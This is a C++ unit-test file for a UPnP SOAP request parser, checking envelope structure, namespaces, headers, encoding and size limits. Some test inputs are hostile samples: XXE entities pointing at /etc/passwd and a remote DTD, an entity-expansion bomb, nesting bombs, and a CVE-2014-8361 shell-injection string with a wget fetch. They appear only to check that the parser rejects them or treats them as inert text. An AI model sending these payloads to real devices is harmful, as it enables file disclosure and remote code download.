// SPDX-License-Identifier: BSL-1.0
#include "control/soap_request.hpp"

#include "support/guarded_buffer.hpp"

#include <gtest/gtest.h>

namespace onlink {
namespace {

using namespace std::string_literals;

xml_budget const budget = xml_budget::for_peers(limits{});

std::string const declaration = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n";
std::string const envelope_ns = "http://schemas.xmlsoap.org/soap/envelope/";
std::string const type = "urn:schemas-upnp-org:service:SwitchPower:1";
std::string const open = "<s:Envelope xmlns:s=\"" + envelope_ns +
                         "\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\">";
std::string const call =
    "<u:SetTarget xmlns:u=\"" + type + "\"><newTargetValue>1</newTargetValue></u:SetTarget>";
std::string const body = "<s:Body>" + call + "</s:Body>";
std::string const whole = declaration + open + body + "</s:Envelope>";

std::string enveloped(std::string const& content) { return open + content + "</s:Envelope>"; }
std::string in_body(std::string const& content) { return enveloped("<s:Body>" + content + "</s:Body>"); }
/// A call whose content is this.
std::string with_arguments(std::string const& arguments)
{
    return in_body("<u:SetTarget xmlns:u=\"" + type + "\">" + arguments + "</u:SetTarget>");
}

auto read(std::string_view text, xml_budget const& b = budget)
{
    test::guarded_buffer const buffer{text};
    return soap_request::parse(buffer.view(), b);
}

/// The defect of a text; the test fails if it has none.
soap_defect defect_of(std::string const& text, xml_budget const& b = budget)
{
    auto const request = read(text, b);
    if (request) {
        ADD_FAILURE() << "was taken: " << text;
        return {};
    }
    return request.error();
}

void expect_set_target(std::string const& text)
{
    auto const request = read(text);
    ASSERT_TRUE(request) << text;
    EXPECT_EQ(request->type_uri, type) << text;
    EXPECT_EQ(request->action, "SetTarget") << text;
    ASSERT_EQ(request->arguments.size(), 1U) << text;
    EXPECT_EQ(request->arguments[0].name, "newTargetValue") << text;
    EXPECT_EQ(request->arguments[0].text, "1") << text;
    EXPECT_FALSE(request->arguments[0].has_elements) << text;
}

TEST(soap_request, CTRL_06_the_action_and_its_type) { expect_set_target(whole); }

TEST(soap_request, CTRL_07_arguments_in_the_order_they_came)
{
    auto const request = read(with_arguments("<B>2</B><A> a b </A><B/><C>&lt;&amp;&#65;<![CDATA[<x>]]></C>"));
    ASSERT_TRUE(request);
    ASSERT_EQ(request->arguments.size(), 4U);
    EXPECT_EQ(request->arguments[0].name, "B");
    EXPECT_EQ(request->arguments[0].text, "2");
    EXPECT_EQ(request->arguments[1].name, "A");
    EXPECT_EQ(request->arguments[1].text, " a b ");
    EXPECT_EQ(request->arguments[2].text, "");
    EXPECT_EQ(request->arguments[3].text, "<&A<x>");
    EXPECT_TRUE(read(with_arguments(""))->arguments.empty());
}

TEST(soap_request, CTRL_07_an_element_with_a_prefix_is_no_argument)
{
    auto const request = read(
        with_arguments("<u:newTargetValue>1</u:newTargetValue><s:x/><newTargetValue>0</newTargetValue>"));
    ASSERT_TRUE(request);
    ASSERT_EQ(request->arguments.size(), 1U);
    EXPECT_EQ(request->arguments[0].text, "0");
}

TEST(soap_request, markup_where_a_value_belongs_is_marked)
{
    auto const request = read(with_arguments("<A>1<b/></A><B><c>1</c></B><C>1<!-- 2 -->3</C>"));
    ASSERT_TRUE(request);
    ASSERT_EQ(request->arguments.size(), 3U);
    EXPECT_TRUE(request->arguments[0].has_elements);
    EXPECT_TRUE(request->arguments[1].has_elements);
    EXPECT_FALSE(request->arguments[2].has_elements);
    EXPECT_EQ(request->arguments[2].text, "13");
}

TEST(soap_request, N_32_DESC_26_comments_instructions_and_unknown_attributes_do_not_matter)
{
    expect_set_target(declaration + "<!-- a --><?b c?>" + open + "<!-- d -->" +
                      "<s:Body id=\"e\"><?f?><u:SetTarget xmlns:u=\"" + type +
                      "\" g=\"h\"><!-- i --><newTargetValue "
                      "j=\"k\">1</newTargetValue><?l?></u:SetTarget><!-- m --></s:Body>"
                      "<!-- n --></s:Envelope><!-- o -->\r\n");
}

TEST(soap_request, N_34_DESC_25_prefixes_are_only_names)
{
    expect_set_target(
        "<SOAP-ENV:Envelope xmlns:SOAP-ENV=\"" + envelope_ns + "\"><SOAP-ENV:Body><m:SetTarget xmlns:m=\"" +
        type + "\"><newTargetValue>1</newTargetValue></m:SetTarget></SOAP-ENV:Body></SOAP-ENV:Envelope>");
    expect_set_target("<Envelope xmlns=\"" + envelope_ns + "\"><Body><SetTarget xmlns=\"" + type +
                      "\"><newTargetValue>1</newTargetValue></SetTarget></Body></Envelope>");
    expect_set_target(
        "<a:Envelope xmlns:a=\"" + envelope_ns + "\" xmlns:b=\"" + type +
        "\"><a:Body><b:SetTarget><newTargetValue>1</newTargetValue></b:SetTarget></a:Body></a:Envelope>");
    // One prefix, bound anew further in.
    expect_set_target("<s:Envelope xmlns:s=\"" + envelope_ns + "\"><s:Body><s:SetTarget xmlns:s=\"" + type +
                      "\"><newTargetValue>1</newTargetValue></s:SetTarget></s:Body></s:Envelope>");
}

TEST(soap_request, namespace_tricks_do_not_make_a_Body)
{
    // A prefix that is bound to something else where it is used, or to nothing.
    EXPECT_EQ(defect_of(open + "<s:Body xmlns:s=\"urn:other\">" + call + "</s:Body></s:Envelope>"),
              soap_defect::structure);
    EXPECT_EQ(defect_of(enveloped("<Body>" + call + "</Body>")), soap_defect::structure);
    EXPECT_EQ(defect_of(enveloped("<x:Body xmlns:x=\"urn:other\">" + call + "</x:Body>")),
              soap_defect::structure);
    EXPECT_EQ(
        defect_of("<Envelope xmlns=\"" + envelope_ns + "\"><Body xmlns=\"\">" + call + "</Body></Envelope>"),
        soap_defect::structure);
    EXPECT_FALSE(read(enveloped("<x:Body>" + call + "</x:Body>")));
    // The action's own namespace is what was bound nearest.
    auto const request = read(in_body("<u:SetTarget xmlns:u=\"urn:other\"/>"));
    ASSERT_TRUE(request);
    EXPECT_EQ(request->type_uri, "urn:other");
    auto const none = read(in_body("<SetTarget/>"));
    ASSERT_TRUE(none);
    EXPECT_EQ(none->type_uri, "");
}

TEST(soap_request, N_35_CTRL_12_encodingStyle_may_be_absent)
{
    expect_set_target("<s:Envelope xmlns:s=\"" + envelope_ns + "\">" + body + "</s:Envelope>");
}

TEST(soap_request, N_36_CTRL_14_a_byte_order_mark_is_fine) { expect_set_target("\xef\xbb\xbf" + whole); }

TEST(soap_request, CTRL_11_an_Envelope_of_another_SOAP_is_a_version_mismatch)
{
    for (auto const* ns :
         {"http://www.w3.org/2003/05/soap-envelope", "urn:x", "http://schemas.xmlsoap.org/soap/envelope",
          "HTTP://schemas.xmlsoap.org/soap/envelope/"})
        EXPECT_EQ(defect_of("<s:Envelope xmlns:s=\"" + std::string{ns} + "\">" + body + "</s:Envelope>"),
                  soap_defect::version_mismatch);
    EXPECT_EQ(defect_of("<Envelope/>"), soap_defect::version_mismatch);
}

TEST(soap_request, CTRL_13_exactly_one_Body_and_nothing_behind_it)
{
    for (auto const& bad : {
             ""s,
             body + body,
             body + "<x/>",
             body + "<s:Header/>",
             "<x/>" + body,
             "<s:Header/><x/>" + body,
             "<s:Header/><s:Header/>" + body,
             "<s:Header/>"s,
             "<s:Header>" + body + "</s:Header>",
             "<x>" + body + "</x>",
             "<s:body>" + call + "</s:body>",
         })
        EXPECT_EQ(defect_of(enveloped(bad)), soap_defect::structure) << bad;
    EXPECT_EQ(defect_of("<x/>"), soap_defect::structure);
    EXPECT_EQ(defect_of(body.substr(0, 7) + " xmlns:s=\"" + envelope_ns + "\">" + call + "</s:Body>"),
              soap_defect::structure);
}

TEST(soap_request, CTRL_06_exactly_one_element_in_the_Body)
{
    EXPECT_EQ(defect_of(in_body("")), soap_defect::structure);
    EXPECT_EQ(defect_of(in_body("SetTarget")), soap_defect::structure);
    EXPECT_EQ(defect_of(in_body(call + call)), soap_defect::structure);
    EXPECT_EQ(defect_of(in_body(call + "<x/>")), soap_defect::structure);
}

TEST(soap_request, CTRL_13_a_Header_is_ignored)
{
    for (auto const& header : {
             "<s:Header/>"s,
             "<s:Header></s:Header>"s,
             "<s:Header><x:y xmlns:x=\"urn:x\"/></s:Header>"s,
             "<s:Header><x:y xmlns:x=\"urn:x\" s:mustUnderstand=\"0\"/></s:Header>"s,
             // aimed at someone else
             "<s:Header><x:y xmlns:x=\"urn:x\" s:mustUnderstand=\"1\" s:actor=\"urn:other\"/></s:Header>"s,
             // not the attribute of SOAP
             "<s:Header><x:y xmlns:x=\"urn:x\" mustUnderstand=\"1\" x:mustUnderstand=\"1\"/></s:Header>"s,
             // not an entry, but inside one
             "<s:Header><x:y xmlns:x=\"urn:x\"><x:z s:mustUnderstand=\"1\"/></x:y></s:Header>"s,
         })
        expect_set_target(enveloped(header + body));
}

TEST(soap_request, N_33_CTRL_13_a_Header_entry_that_insists_is_a_fault)
{
    for (
        auto const& header : {
            "<s:Header><x:y xmlns:x=\"urn:x\" s:mustUnderstand=\"1\"/></s:Header>"s,
            "<s:Header><x:y xmlns:x=\"urn:x\" s:mustUnderstand=\"true\"/></s:Header>"s,
            "<s:Header><a/><y s:mustUnderstand=\"1\" s:actor=\"\"/></s:Header>"s,
            "<s:Header><y s:mustUnderstand=\"1\" s:actor=\"http://schemas.xmlsoap.org/soap/actor/next\"/></s:Header>"s,
            "<s:Header><y xmlns:e=\"" + envelope_ns + "\" e:mustUnderstand=\"1\"/></s:Header>",
        })
        EXPECT_EQ(defect_of(enveloped(header + body)), soap_defect::must_understand) << header;
}

TEST(soap_request, N_25_CTRL_21_a_body_cut_anywhere_is_bad_and_not_read_beyond)
{
    for (std::size_t size = 0; size < whole.size(); ++size)
        EXPECT_EQ(defect_of(whole.substr(0, size)), soap_defect::bad_xml) << size;
}

TEST(soap_request, N_26_CTRL_14_a_document_type_is_refused_whatever_is_in_it)
{
    for (auto const& doctype : {
             "<!DOCTYPE s>"s,
             "<!DOCTYPE s [<!ENTITY e \"1\">]>"s,
             "<!DOCTYPE s SYSTEM \"http://192.0.2.1/x.dtd\">"s,
             "<!DOCTYPE s [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"s,
             "<!DOCTYPE s [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>"s,
             "<!doctype s>"s,
         })
        EXPECT_EQ(defect_of(declaration + doctype + open + body + "</s:Envelope>"), soap_defect::bad_xml)
            << doctype;
    EXPECT_EQ(defect_of(with_arguments("<newTargetValue>&e;</newTargetValue>")), soap_defect::bad_xml)
        << "unknown entity";
}

TEST(soap_request, CTRL_14_only_UTF_8)
{
    EXPECT_EQ(defect_of("<?xml version=\"1.0\" encoding=\"utf-16\"?>" + open + body + "</s:Envelope>"),
              soap_defect::bad_xml);
    EXPECT_EQ(defect_of("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?>" + open + body + "</s:Envelope>"),
              soap_defect::bad_xml);
    for (auto const* bytes : {"\xff", "\xc0\x80", "\xed\xa0\x80", "caf\xe9", "\xf5\x80\x80\x80", "\x01"})
        EXPECT_EQ(defect_of(with_arguments("<A>" + std::string{bytes} + "</A>")), soap_defect::bad_xml);
    EXPECT_EQ(read(with_arguments("<A>caf\xc3\xa9</A>"))->arguments.at(0).text, "caf\xc3\xa9");
}

TEST(soap_request, CTRL_21_what_is_no_XML_is_bad)
{
    for (auto const& bad : {""s, " "s, "SetTarget"s, "<"s, "<>"s, std::string(1000, '<'), "<s:Envelope"s,
                            whole + "<x/>", whole + "x", whole + whole, "<a><b></a></b>"s, "\0"s,
                            whole + "\0"s, with_arguments("<A a=\"1\" a=\"2\"/>")})
        EXPECT_EQ(defect_of(bad), soap_defect::bad_xml) << bad;
}

TEST(soap_request, CVE_2021_28302_limits_xml_max_depth_is_reached)
{
    auto const nested = [](std::size_t depth) {
        std::string text;
        for (std::size_t i = 0; i < depth; ++i)
            text += "<a>";
        for (std::size_t i = 0; i < depth; ++i)
            text += "</a>";
        return text;
    };
    auto const left = budget.max_depth - 3; // Envelope, Body, action
    EXPECT_TRUE(read(with_arguments(nested(left))));
    EXPECT_EQ(defect_of(with_arguments(nested(left + 1))), soap_defect::bad_xml);
    std::string bomb;
    for (std::size_t i = 0; i < 20000; ++i)
        bomb += "<a>";
    EXPECT_EQ(defect_of(bomb), soap_defect::bad_xml);
    EXPECT_EQ(defect_of(enveloped("<s:Header>" + nested(5000) + "</s:Header>" + body)), soap_defect::bad_xml);
}

TEST(soap_request, pupnp_250_limits_xml_max_elements_is_reached)
{
    auto const siblings = [](std::size_t count) {
        std::string text;
        for (std::size_t i = 0; i < count; ++i)
            text += "<a/>";
        return text;
    };
    auto const left = budget.max_elements - 3;
    EXPECT_TRUE(read(with_arguments(siblings(left))));
    EXPECT_EQ(defect_of(with_arguments(siblings(left + 1))), soap_defect::bad_xml);
    EXPECT_EQ(defect_of(with_arguments(siblings(15000))), soap_defect::bad_xml);
}

TEST(soap_request, limits_xml_max_attributes_is_reached)
{
    auto const attributes = [](std::size_t count) {
        std::string text = "<A";
        for (std::size_t i = 0; i < count; ++i)
            text += " a" + std::to_string(i) + "=\"\"";
        return text + "/>";
    };
    EXPECT_TRUE(read(with_arguments(attributes(budget.max_attributes))));
    EXPECT_EQ(defect_of(with_arguments(attributes(budget.max_attributes + 1))), soap_defect::bad_xml);
}

TEST(soap_request, limits_http_max_body_bounds_what_is_read)
{
    auto small = limits{};
    small.http.max_body = whole.size();
    EXPECT_TRUE(read(whole, xml_budget::for_peers(small)));
    EXPECT_EQ(defect_of(whole + ' ', xml_budget::for_peers(small)), soap_defect::bad_xml);
}

TEST(soap_request, CVE_2014_8361_a_text_is_text_whatever_a_shell_would_make_of_it)
{
    auto const request = read(with_arguments("<A>`cd /tmp;wget http://192.0.2.1/x`$(id) %n%s</A>"));
    ASSERT_TRUE(request);
    EXPECT_EQ(request->arguments.at(0).text, "`cd /tmp;wget http://192.0.2.1/x`$(id) %n%s");
}

} // namespace
} // namespace onlink
